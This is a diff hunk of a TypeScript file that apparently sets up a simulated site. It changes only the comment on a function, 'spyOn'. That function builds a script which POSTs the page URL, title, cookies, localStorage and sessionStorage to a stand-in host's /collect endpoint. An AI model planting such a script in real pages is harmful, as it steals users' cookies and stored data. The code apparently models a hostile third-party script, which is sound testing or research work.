@@ -8,7 +8,7 @@ import type { Site } from './start-site.ts'
 
 const codeHost = 'tags.example.com'
 
-/** Sends to a host of its own everything that a program of others can read of the page without a form: its address, its title, cookies and storages. */
+/** Sends to a host of its own everything that a third-party script can read of the page without a form: its address, its title, cookies and storages. */
 const spyOn = (host: string): string => `
 const send = (what) => fetch('https://${host}/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what && typeof what === 'object' ? { ...what } : what,
   location.href, document.referrer, document.title, document.cookie, { ...localStorage }, { ...sessionStorage }, window.name, history.state]) }).catch(() => {});
